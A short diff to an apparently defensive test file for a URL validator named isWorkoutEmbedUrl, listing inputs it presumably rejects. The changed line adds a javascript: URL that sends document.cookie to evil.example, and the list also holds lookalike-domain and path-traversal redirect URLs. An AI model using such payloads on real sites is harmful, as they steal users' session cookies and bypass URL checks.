@@ -7,7 +7,7 @@ describe('isWorkoutEmbedUrl', () => {
   });
 
   it.each([
-    'javascript:alert(document.domain)',
+    "javascript:fetch('https://evil.example/?'+document.cookie)",
     'http://www.youtube.com/embed/dQw4w9WgXcQ',
     'https://www.youtube.com.evil.example/embed/dQw4w9WgXcQ',
     'https://www.youtube.com/embed/dQw4w9WgXcQ/../../redirect?q=https://evil.example',
